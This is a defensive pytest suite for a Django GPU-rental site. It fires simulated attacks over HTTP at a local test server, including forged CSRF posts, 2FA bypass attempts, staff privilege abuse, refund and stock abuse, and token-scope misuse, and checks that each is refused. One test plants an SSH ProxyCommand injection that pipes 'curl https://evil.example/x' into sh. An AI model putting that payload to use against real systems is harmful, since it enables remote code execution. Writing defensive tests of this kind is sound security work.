"""The security attacks, run as an attacker would: real HTTP (requests) against a live server
(pytest-django's live_server, the whole middleware stack, the database of the run: SQLite
by default, PostgreSQL with DATABASE_URL). Each test is one attack and checks both the
answer and that nothing changed behind it.

CSRF, two-factor bypass, staff without permissions, NUL bytes and deep nesting, stock
hoarding, refund abuse and token scopes."""
import json
import re
from datetime import datetime

import pytest
import requests
from django.contrib.auth.models import User
from django.core.cache import cache
from django.utils import timezone

from billing.services import balance_top_up
from rental.accounts.services import api_token_create
from rental.models import ApiToken, Lease, LeaseState
from tests.factories import ED25519
from tests.otp import authenticator_for, code_for

pytestmark = pytest.mark.django_db(transaction=True)
PASSWORD = "correct horse battery 9"
STAFF_PASSWORD = "operator pass 12345"
ORDER = {"offer": "rtx-3090", "site": "DFW-1", "term": "week", "ssh_key": ED25519}
TIMEOUT = 20


@pytest.fixture
def server(live_server, transactional_db):
    from inventory.demo import load_demo_catalog
    from rental.demo import load_demo_images

    load_demo_catalog()
    load_demo_images()
    cache.clear()
    yield live_server.url
    cache.clear()


class Browser:
    """A cookie-keeping HTTP client that fills forms the way a browser does (CSRF token
    from the page) unless told not to."""

    def __init__(self, base: str):
        self.base, self.http = base, requests.Session()

    def get(self, path, **kw):
        return self.http.get(self.base + path, allow_redirects=False, timeout=TIMEOUT, **kw)

    def token(self, path) -> str:
        page = self.http.get(self.base + path, timeout=TIMEOUT).text
        return re.search(r'name="csrfmiddlewaretoken" value="([^"]+)"', page).group(1)

    def post(self, path, data, *, token_from=None, csrf=True, **kw):
        if csrf:
            data = {**data, "csrfmiddlewaretoken": self.token(token_from or path)}
        return self.http.post(self.base + path, data=data, allow_redirects=False, timeout=TIMEOUT, **kw)

    def login(self, username, password):
        response = self.post("/accounts/login/", {"username": username, "password": password})
        assert response.status_code == 302, response.text[:300]
        return response


def api(base, method, path, raw=None, body=None, data=None):
    headers = {"Authorization": f"Bearer {raw}"} if raw else {}
    if body is not None:
        data, headers["Content-Type"] = json.dumps(body), "application/json"
    return requests.request(method, base + path, data=data, headers=headers, timeout=TIMEOUT)


def make_customer(username="mallory", email=""):
    from rental.services import account_create

    return account_create(username=username, password=PASSWORD, email=email)


# --- CSRF -------------------------------------------------------------------------------------

def test_csrf_a_forged_post_from_another_site_is_refused(server):
    user = make_customer()
    victim = Browser(server)
    victim.login("mallory", PASSWORD)
    forged = victim.post("/account/tokens/", {"name": "attacker"}, csrf=False,
                         headers={"Origin": "https://evil.example", "Referer": "https://evil.example/x"})
    assert forged.status_code == 403
    forged = victim.post("/account/settings/", {"email": "attacker@evil.example"}, csrf=False)
    assert forged.status_code == 403
    assert not ApiToken.objects.filter(customer=user).exists()
    user.refresh_from_db()
    assert user.email == ""
    honest = victim.post("/account/tokens/", {"name": "mine"}, token_from="/account/settings/")
    # POST-redirect-GET: the new token is shown once on the page redirected to.
    assert honest.status_code == 302 and ApiToken.objects.filter(customer=user, name="mine").exists()
    shown = victim.get(honest.headers["Location"].partition("#")[0])
    assert shown.status_code == 200 and shown.headers["Cache-Control"] == "no-store"


# --- two-factor bypass ----------------------------------------------------------------------------

@pytest.fixture
def staff_with_totp(transactional_db):
    user = User.objects.create_superuser(username="op", password=STAFF_PASSWORD)
    return user, authenticator_for(user)


def test_2fa_a_stolen_password_alone_opens_nothing(server, staff_with_totp):
    user, device = staff_with_totp
    thief = Browser(server)
    thief.login("op", STAFF_PASSWORD)
    for path in ("/admin/", "/admin/auth/user/", "/admin/ops/exports/?what=invoices&date_from=2025-01-01&date_to=2025-12-31",
                 "/accounts/password/", "/account/settings/", "/accounts/otp/setup/", "/accounts/otp/recovery-codes/"):
        response = thief.get(path)
        assert response.status_code == 302 and "/accounts/otp/verify/" in response.headers["Location"], path
    # Changing the password or enrolling the thief's phone: sent to the code step, nothing saved.
    response = thief.post("/accounts/password/", {"old_password": STAFF_PASSWORD, "new_password1": "thief pass 90210",
                                                  "new_password2": "thief pass 90210"}, token_from="/accounts/login/")
    assert response.status_code == 302 and "/accounts/otp/verify/" in response.headers["Location"]
    response = thief.post("/accounts/otp/setup/", {"code": "123456"}, token_from="/accounts/login/")
    assert response.status_code == 302
    user.refresh_from_db()
    assert user.check_password(STAFF_PASSWORD) and user.totpdevice_set.count() == 1
    # Guessing codes: wrong ones are refused and throttle the device (even the right one, right after).
    assert thief.post("/accounts/otp/verify/", {"code": "000000"}).status_code == 400
    assert thief.post("/accounts/otp/verify/", {"code": code_for(device)}).status_code == 400
    assert thief.get("/admin/").status_code == 302


def test_2fa_the_code_step_then_opens_the_admin_and_next_stays_on_site(server, staff_with_totp):
    _user, device = staff_with_totp
    operator = Browser(server)
    operator.login("op", STAFF_PASSWORD)
    response = operator.post("/accounts/otp/verify/", {"code": code_for(device), "next": "https://evil.example/"})
    assert response.status_code == 302 and response.headers["Location"] == "/admin/"
    assert operator.get("/admin/").status_code == 200


def test_2fa_staff_without_an_authenticator_must_enrol_first(server, transactional_db):
    User.objects.create_superuser(username="fresh", password=STAFF_PASSWORD)
    newcomer = Browser(server)
    newcomer.login("fresh", STAFF_PASSWORD)
    for path in ("/admin/", "/admin/auth/user/", "/leases/", "/accounts/password/"):
        response = newcomer.get(path)
        assert response.status_code == 302 and "/accounts/otp/setup/" in response.headers["Location"], path


# --- staff without permissions --------------------------------------------------------------------

def test_staff_without_permissions_cannot_download_every_customers_invoices(server):
    clerk = User.objects.create_user(username="clerk", password=STAFF_PASSWORD, is_staff=True)
    device = authenticator_for(clerk)
    browser = Browser(server)
    browser.login("clerk", STAFF_PASSWORD)
    assert browser.post("/accounts/otp/verify/", {"code": code_for(device)}).status_code == 302
    assert browser.get("/admin/").status_code == 200
    for what in ("invoices", "payments", "leases"):
        response = browser.get(f"/admin/ops/exports/?what={what}&date_from=2020-01-01&date_to=2030-12-31")
        assert response.status_code == 403 and "text/csv" not in response.headers.get("Content-Type", ""), what
    assert browser.get("/admin/ops/dashboard/").status_code == 403
    assert browser.get("/admin/ops/holds/").status_code == 403


# --- bad input ----------------------------------------------------------------------------------

def test_nul_bytes_and_deep_nesting_are_400s_not_500s(server, staff_with_totp):
    raw = api_token_create(customer=make_customer(), name="fuzz")[1]
    for body in ('{"offer": "rtx-3090\\u0000"}', '{"offer": ' + "[" * 5000 + "]" * 5000 + "}",
                 '{"offer": "rtx-3090", "site": "DFW-1\\u0000", "term": "week"}'):
        response = api(server, "POST", "/api/v1/orders", raw, data=body.encode())
        assert response.status_code == 400 and response.json()["error"] == "bad_json", body[:40]
    _user, device = staff_with_totp
    operator = Browser(server)
    operator.login("op", STAFF_PASSWORD)
    operator.post("/accounts/otp/verify/", {"code": code_for(device)})
    for path in ("/admin/rental/lease/?state=%00", "/admin/billing/invoice/?q=%00", "/admin/auth/user/?%00=1"):
        assert operator.get(path).status_code == 400, path
    response = operator.get("/admin/ops/exports/?what=leases&date_from=2025-01-01&date_to=9999-12-31")
    assert response.status_code == 200 and "Dates must be between" in response.text
    assert not Lease.objects.exists()


# --- stock hoarding -------------------------------------------------------------------------------

def test_a_free_account_cannot_hold_the_stock(server, settings):
    raw = api_token_create(customer=make_customer(), name="hoarder")[1]
    created = [api(server, "POST", "/api/v1/orders", raw, ORDER) for _ in range(4)]
    assert [r.status_code for r in created] == [201, 201, 409, 409]
    assert created[2].json()["error"] == "too_many_unpaid_orders"
    holds = [r.json()["lease"] for r in created[:2]]
    for lease in holds:  # the short hold of an account that never paid
        held = datetime.fromisoformat(lease["pay_by"]) - datetime.fromisoformat(lease["created_at"])
        assert held.total_seconds() <= settings.PAYMENT_WINDOW_NEW_ACCOUNT_MINUTES * 60 + 5
    assert Lease.objects.filter(state=LeaseState.PENDING).count() == 2


def test_sign_ups_from_one_address_are_throttled(server, settings):
    settings.SIGNUPS_PER_IP = 2
    answers = []
    for n in range(3):
        response = Browser(server).post("/accounts/signup/", {"username": f"sock{n}", "password1": PASSWORD,
                                                              "password2": PASSWORD})
        answers.append(response.status_code)
    assert answers == [302, 302, 429]  # made (on to the recovery codes), made, refused
    assert not User.objects.filter(username="sock2").exists()


# --- refund abuse -----------------------------------------------------------------------------------

def test_the_one_hour_refund_cannot_be_repeated_all_month(server):
    user = make_customer()
    balance_top_up(customer=user, amount_cents=1_000_00, now=timezone.now())
    raw = api_token_create(customer=user, name="all")[1]
    refunds = []
    for _ in range(2):
        lease = api(server, "POST", "/api/v1/orders", raw, {**ORDER, "pay_from_balance": True}).json()["lease"]
        refunds.append(api(server, "POST", f"/api/v1/leases/{lease['id']}/refund", raw, {}))
    assert refunds[0].status_code == 200 and refunds[0].json()["refunded_cents"] == 6500
    assert refunds[1].status_code == 409 and refunds[1].json()["error"] == "refund_limit_reached"
    assert Lease.objects.filter(customer=user, state=LeaseState.CANCELLED).count() == 1


# --- token scopes -------------------------------------------------------------------------------------

def test_a_leaked_read_token_cannot_order_spend_or_refund(server):
    user = make_customer()
    balance_top_up(customer=user, amount_cents=1_000_00, now=timezone.now())
    full = api_token_create(customer=user, name="all")[1]
    lease = api(server, "POST", "/api/v1/orders", full, {**ORDER, "pay_from_balance": True}).json()["lease"]
    leaked = api_token_create(customer=user, name="grafana", scopes=["read"])[1]
    assert api(server, "GET", "/api/v1/leases", leaked).status_code == 200
    for method, path, body in (("POST", "/api/v1/orders", ORDER),
                               ("POST", "/api/v1/orders", {**ORDER, "pay_from_balance": True}),
                               ("POST", f"/api/v1/leases/{lease['id']}/refund", {})):
        response = api(server, method, path, leaked, body)
        assert response.status_code == 403 and response.json()["error"] == "insufficient_scope", path
    assert Lease.objects.filter(customer=user).count() == 1


def test_a_password_change_kills_tokens_made_before_it(server):
    user = make_customer()
    raw = api_token_create(customer=user, name="old laptop")[1]
    browser = Browser(server)
    browser.login("mallory", PASSWORD)
    response = browser.post("/accounts/password/", {"old_password": PASSWORD, "new_password1": "a new pass 55123",
                                                    "new_password2": "a new pass 55123"})
    assert response.status_code == 302
    assert api(server, "GET", "/api/v1/leases", raw).status_code == 401


# --- The holes an attack on the production-like stack found ------------------------------

def staff_browser(server, username, *perms):
    from django.contrib.auth.models import Permission

    user = User.objects.create_user(username=username, password=STAFF_PASSWORD, is_staff=True)
    for perm in perms:
        app, codename = perm.split(".")
        user.user_permissions.add(Permission.objects.get(content_type__app_label=app, codename=codename))
    device = authenticator_for(user)
    browser = Browser(server)
    browser.login(username, STAFF_PASSWORD)
    assert browser.post("/accounts/otp/verify/", {"code": code_for(device)}).status_code == 302
    return browser


def run_action(browser, changelist, action, pks, **extra):
    from django.contrib.admin.helpers import ACTION_CHECKBOX_NAME

    return browser.post(changelist, {"action": action, ACTION_CHECKBOX_NAME: pks, "post": "yes", **extra})


def test_view_only_staff_cannot_credit_a_payment_review(server):
    from billing.models import LedgerEntry, PaymentReview
    from tests.factories import place

    with_review = make_customer()
    _lease, invoice = place(with_review)
    from billing.payments.services import quote_create
    from tests.billing.payments_helpers import offline_coins, set_rate

    with offline_coins():
        set_rate("LTC", "100", timezone.now())
        quote = quote_create(invoice=invoice, coin="LTC", now=timezone.now())
    review = PaymentReview.objects.create(key="attack", quote=quote, kind=PaymentReview.Kind.OVER_CAP,
                                          amount=10**8, proposed_cents=1_000_00, created_at=timezone.now())
    viewer = staff_browser(server, "viewer", "billing.view_paymentreview")
    page = viewer.get("/admin/billing/paymentreview/")
    assert page.status_code == 200 and "credit_reviews" not in page.text
    run_action(viewer, "/admin/billing/paymentreview/", "credit_reviews", [review.pk], confirm="on")
    review.refresh_from_db()
    assert review.state == PaymentReview.State.OPEN
    assert not LedgerEntry.objects.filter(account__customer=with_review, amount_cents=1_000_00).exists()


def test_view_only_staff_cannot_mint_an_enrolment_code_nor_revoke(server):
    from fleet.models import EnrolmentCode
    from inventory.models import Node

    node = Node.objects.first()
    viewer = staff_browser(server, "viewer", "inventory.view_node", "fleet.view_nodeagent")
    page = run_action(viewer, "/admin/inventory/node/", "enrolment_code", [node.pk])
    assert "Enrolment codes" not in page.text and not EnrolmentCode.objects.exists()
    run_action(viewer, "/admin/inventory/node/", "revoke_credential", [node.pk])
    operator = staff_browser(server, "nodeop", "inventory.view_node", "inventory.change_node",
                             "fleet.change_nodeagent")
    page = run_action(operator, "/admin/inventory/node/", "enrolment_code", [node.pk])
    assert page.status_code == 200 and EnrolmentCode.objects.count() == 1
    assert page.headers["Cache-Control"] == "no-store"


def test_a_rogue_node_cannot_turn_the_ssh_line_into_a_command(server, settings):
    import base64

    from cryptography.hazmat.primitives.asymmetric.ed25519 import Ed25519PrivateKey
    from cryptography.hazmat.primitives.serialization import Encoding, PublicFormat

    from fleet.crypto import canonical_json
    from fleet.services import enrolment_code_create
    from inventory.models import SlotAllocation

    settings.HOST_AGENT = "fleet.driver.NodeAgentDriver"
    victim = make_customer()
    balance_top_up(customer=victim, amount_cents=1_000_00, now=timezone.now())
    raw = api_token_create(customer=victim, name="all")[1]
    lease = api(server, "POST", "/api/v1/orders", raw, {**ORDER, "pay_from_balance": True}).json()["lease"]
    node = SlotAllocation.objects.filter(lease_id=lease["id"]).select_related("slot__node").first().slot.node
    key = Ed25519PrivateKey.generate()
    public = base64.b64encode(key.public_key().public_bytes(Encoding.Raw, PublicFormat.Raw)).decode()
    code = enrolment_code_create(node=node, actor=None, now=timezone.now())
    credential = api(server, "POST", "/agent/v1/enrol", body={"code": code, "public_key": public,
                                                               "agent_version": "0.1", "hostname": "h"}).json()
    auth = {"Authorization": f"Node {credential['credential']}"}
    evil = "x -oProxyCommand='sh -c \"curl https://evil.example/x|sh\"'"
    record = {"kind": "instance_ready", "node": node.name, "lease_id": lease["id"], "op_id": f"{lease['id']}:x:1",
              "at": timezone.now().strftime("%Y-%m-%dT%H:%M:%SZ"), "ssh_port": 22042, "host": evil,
              "gpus": ["GPU-0"], "image": "pytorch"}
    record["signature"] = base64.b64encode(key.sign(canonical_json(record))).decode()
    for n, items in enumerate(({"public_host": evil}, {"evidence": [record]},
                               {"agent_version": "0.1\u0000", "gpus": []}), start=1):
        body = json.dumps({"seq": n, "sent_at": timezone.now().strftime("%Y-%m-%dT%H:%M:%SZ"), "gpu_library": "nvml",
                           **items}).encode()
        signature = base64.b64encode(key.sign(body)).decode()
        response = requests.post(server + "/agent/v1/report", data=body, timeout=TIMEOUT,
                                 headers={**auth, "X-Node-Signature": signature, "Content-Type": "application/json"})
        assert response.status_code in (200, 400) and response.headers["Content-Type"] == "application/json"
        if "agent_version" in items:  # the NUL: a clean 400, not a 500 HTML page
            assert response.status_code == 400 and response.json() == {"error": "invalid_json"}
        else:
            assert response.json()["refused"], response.text
    shown = api(server, "GET", f"/api/v1/leases/{lease['id']}", raw).json()
    assert "ProxyCommand" not in json.dumps(shown)
    assert Lease.objects.get(pk=lease["id"]).host == ""


def test_accounts_from_one_address_cannot_hold_every_8x_gpu_server(server):
    from inventory.models import Offer
    from inventory.selectors import sites_with_stock_for

    offer = Offer.objects.get(slug="8x-h100-sxm")
    site = sorted(sites_with_stock_for(offer))[0]
    order = {**ORDER, "offer": offer.slug, "site": site}
    answers = []
    for name in ("sock1", "sock2", "sock3"):
        raw = api_token_create(customer=make_customer(name), name="t")[1]
        answers.append(api(server, "POST", "/api/v1/orders", raw, order))
    assert [r.status_code for r in answers] == [201, 409, 409]
    assert "your address" in answers[1].json()["message"]
    assert Lease.objects.filter(state=LeaseState.PENDING).count() == 1


def test_password_reset_requests_are_throttled(server, settings):
    from django.core import mail

    make_customer(email="mallory@example.org")
    settings.PASSWORD_RESETS_PER_EMAIL = 2
    answers = [Browser(server).post("/accounts/password/reset/", {"email": "mallory@example.org"}).status_code
               for _ in range(3)]
    assert answers == [302, 302, 429] and len(mail.outbox) == 2


def test_a_config_with_an_integer_above_float_range_is_a_400(server):
    config = {"hidden_size": 10**309, "num_attention_heads": 32, "num_hidden_layers": 32, "vocab_size": 32000}
    response = requests.post(server + "/api/v1/estimate", data=json.dumps(config), timeout=TIMEOUT,
                             headers={"Content-Type": "application/json"})
    assert response.status_code == 400 and response.json()["field"] == "config.hidden_size"
    response = requests.get(server + "/size/", params={"config": json.dumps(config)}, timeout=TIMEOUT)
    assert response.status_code == 400 and "text/html" in response.headers["Content-Type"]
